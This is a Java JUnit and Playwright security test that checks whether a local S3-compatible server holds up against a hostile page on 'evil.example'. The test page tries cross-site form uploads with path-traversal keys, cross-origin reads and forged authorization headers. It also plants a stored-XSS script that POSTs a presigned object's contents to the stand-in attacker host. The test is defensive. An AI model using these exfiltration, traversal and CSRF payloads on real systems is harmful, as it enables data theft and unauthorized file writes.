package dev.telegramlake.local;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import com.sun.net.httpserver.HttpServer;
import dev.telegramlake.local.s3.ObjectStore;
import dev.telegramlake.local.s3.PostForm;
import dev.telegramlake.local.wire.LocalCredentials;
import dev.telegramlake.schema.Lake;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.s3.S3Configuration;
import software.amazon.awssdk.services.s3.presigner.S3Presigner;

/// A page of another site, in a real browser, against the S3 server. It has the right credentials, although nobody
/// does, and tries what once wrote any file and read the bucket.
@Timeout(value = 2, unit = TimeUnit.MINUTES)
final class ForeignPageTest {
    private static final String SITE = "evil.example";

    @TempDir
    static Path folder;

    private static LocalCredentials credentials;
    private static ObjectStore store;
    private static HttpServer site;
    private static final List<String> STOLEN = new CopyOnWriteArrayList<>();
    private static volatile String html = "";

    private Browser browser;

    @BeforeAll
    static void start() throws IOException {
        Browser.requireOne();
        credentials = LocalCredentials.random();
        store = ObjectStore.start(
                Files.createDirectory(folder.resolve("data")).resolve("s3"), "127.0.0.1", 0, credentials);
        site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        site.createContext("/", exchange -> {
            try (exchange) {
                STOLEN.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
                byte[] page = html.getBytes(StandardCharsets.UTF_8);
                exchange.getResponseHeaders().add("Content-Type", "text/html");
                exchange.getResponseHeaders().add("Access-Control-Allow-Origin", "*");
                exchange.sendResponseHeaders(200, page.length);
                exchange.getResponseBody().write(page);
            }
        });
        site.start();
        try (S3Client s3 = store.client()) {
            s3.putObject(put -> put.bucket(Lake.BUCKET).key("raw/x"), RequestBody.fromString("what somebody wrote"));
            s3.putObject(
                    put -> put.bucket(Lake.BUCKET).key("probe/xss.html").contentType("text/html"),
                    RequestBody.fromString("<script>%s</script>".formatted(reading(presigned("raw/x")))));
        }
    }

    @AfterAll
    static void stop() throws IOException {
        if (store != null) {
            site.stop(0);
            store.close();
        }
    }

    @BeforeEach
    void openBrowser() {
        browser = Browser.startWith(SITE);
        STOLEN.clear();
    }

    @AfterEach
    void close() {
        browser.close();
    }

    @Test
    void aFormOfAnotherSiteWritesNoFile() throws IOException {
        String before = tree();
        for (String key : List.of(folder.resolve("escaped").toString(), "probe/new.html", "../../escaped")) {
            String fields = PostForm.fields(credentials, key).entrySet().stream()
                    .map(field -> "<input name='%s' value='%s'>".formatted(field.getKey(), field.getValue()))
                    .collect(Collectors.joining());
            html =
                    "<form method=post enctype=multipart/form-data action='%s/telegram-lake?Signature=x'>%s<textarea name=file>x</textarea></form>"
                            .formatted(store.endpoint(), fields);
            Page page = visit();

            page.evaluate("document.forms[0].submit()");
            page.waitForURL(
                    address -> address.startsWith(store.endpoint().toString()) || address.startsWith("chrome-error"));
        }
        assertThat(tree()).isEqualTo(before);
    }

    @Test
    void aPageThatLiesInTheBucketIsNotShown() {
        html = "<a href='%s'>open</a>".formatted(presigned("probe/xss.html"));
        Page page = visit();

        page.evaluate("""
                () => new Promise(done => {
                    const frame = document.createElement('iframe');
                    frame.onload = frame.onerror = () => setTimeout(done, 500);
                    frame.src = document.querySelector('a').href;
                    document.body.append(frame);
                })""");
        page.evaluate("document.querySelector('a').click()");
        page.waitForURL(
                address -> address.startsWith(store.endpoint().toString()) || address.startsWith("chrome-error"));

        assertThat(String.join("", STOLEN)).doesNotContain("what somebody wrote");
        assertThat(page.content()).doesNotContain("what somebody wrote");
    }

    @Test
    void aScriptOfAnotherSiteReadsNothing() {
        html = "<p>a page</p>";
        Page page = visit();

        for (String mode : List.of("cors", "no-cors")) {
            Object read = page.evaluate(
                    "([address, mode]) => fetch(address, {mode}).then(answer => answer.text(), error => 'no: ' + error)",
                    List.of(presigned("raw/x").toString(), mode));
            assertThat(String.valueOf(read)).doesNotContain("what somebody wrote");
        }
        Object signed = page.evaluate(
                "address => fetch(address, {headers: {Authorization: 'AWS x:y'}}).then(answer => answer.text(), error => 'no: ' + error)",
                store.endpoint() + "/telegram-lake/raw/x");
        assertThat(String.valueOf(signed)).startsWith("no: ");
    }

    private Page visit() {
        Page page = browser.open(800, 600, ColorScheme.LIGHT, "en-US");
        page.navigate("http://%s:%d/".formatted(SITE, site.getAddress().getPort()));
        return page;
    }

    /// A script that sends what it can read to the other site.
    private static String reading(URI address) {
        return "fetch('%s').then(r => r.text()).then(t => fetch('http://%s:%d/', {method: 'POST', body: t}))"
                .formatted(address, SITE, site.getAddress().getPort());
    }

    private static URI presigned(String key) {
        try (S3Presigner presigner = S3Presigner.builder()
                .endpointOverride(store.endpoint())
                .region(Region.of(LocalCredentials.REGION))
                .credentialsProvider(credentials.provider())
                .serviceConfiguration(
                        S3Configuration.builder().pathStyleAccessEnabled(true).build())
                .build()) {
            return URI.create(presigner
                    .presignGetObject(sign -> sign.signatureDuration(Duration.ofMinutes(5))
                            .getObjectRequest(get -> get.bucket(Lake.BUCKET).key(key)))
                    .url()
                    .toString());
        }
    }

    private static String tree() throws IOException {
        try (Stream<Path> files = Files.walk(folder)) {
            return files.sorted().toList().toString();
        }
    }
}
